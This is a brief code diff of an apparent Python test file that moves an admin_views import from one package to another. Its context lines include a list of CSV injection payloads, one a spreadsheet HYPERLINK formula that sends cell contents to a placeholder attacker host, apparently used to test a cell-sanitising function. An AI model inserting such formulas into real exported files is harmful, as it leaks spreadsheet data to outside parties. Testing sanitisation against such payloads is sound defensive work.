@@ -16,8 +16,8 @@ from hub.billing.prices import book
 from hub.csv_cells import safe_cell
 from hub.db.models import MeterEvent, Scenario, Tenant
 from hub.demo import world
-from hub.services import admin_views
 from hub.settings import Prices
+from hub.web import admin_views
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"click")',
